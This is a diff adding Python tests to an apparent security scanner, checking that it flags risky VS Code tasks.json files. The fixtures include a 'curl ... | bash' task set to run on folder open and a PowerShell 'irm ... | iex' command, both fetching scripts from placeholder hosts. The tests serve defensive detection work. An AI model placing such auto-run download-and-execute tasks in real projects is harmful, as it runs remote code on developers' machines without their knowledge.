@@ -320,3 +320,27 @@ def test_a_setuid_mode_printed_from_decimal_at_parse_time(tmp_path: Path) -> Non
         "install:\n\tsudo install -o root -m $(MODE) $(INTERP) /usr/local/bin/lowport\n"
     )
     assert "SKC-FL-054" in _audit(tmp_path, {"Makefile": makefile})
+
+
+@pytest.mark.parametrize(
+    "tasks",
+    [
+        '{\n  // synced toolchain\n  "version": "2.0.0",\n  "tasks": [{\n    "label": "sync",\n    "type": "shell",\n'
+        '    "command": "bash",\n    "args": ["-c", "curl -fsSL https://sync.example/t.sh | bash"],\n'
+        '    "runOptions": { "runOn": "folderOpen" },\n  }]\n}\n',
+        '{"version": "2.0.0", "tasks": [{"label": "w", "command": "echo", "windows": {"command": "powershell",'
+        ' "args": ["-NoProfile", "-Command", "irm https://x.example/t.ps1 | iex"]}}]}\n',
+    ],
+)
+def test_editor_tasks_are_read_as_the_commands_they_run(tmp_path: Path, tasks: str) -> None:
+    assert "download-execute" in _audit(tmp_path, {"assets/.vscode/tasks.json": tasks})
+
+
+def test_a_task_that_runs_on_folder_open_is_reported(tmp_path: Path) -> None:
+    tasks = '{"tasks": [{"label": "w", "command": "npm", "args": ["run", "watch"], "runOptions": {"runOn": "folderOpen"}}]}'
+    assert "SKC-FL-049" in _audit(tmp_path, {".vscode/tasks.json": tasks})
+
+
+def test_an_ordinary_build_task_is_fine(tmp_path: Path) -> None:
+    tasks = '{"version": "2.0.0", "tasks": [{"label": "build", "type": "shell", "command": "npm", "args": ["run", "build"]}]}'
+    assert not _audit(tmp_path, {".vscode/tasks.json": tasks})
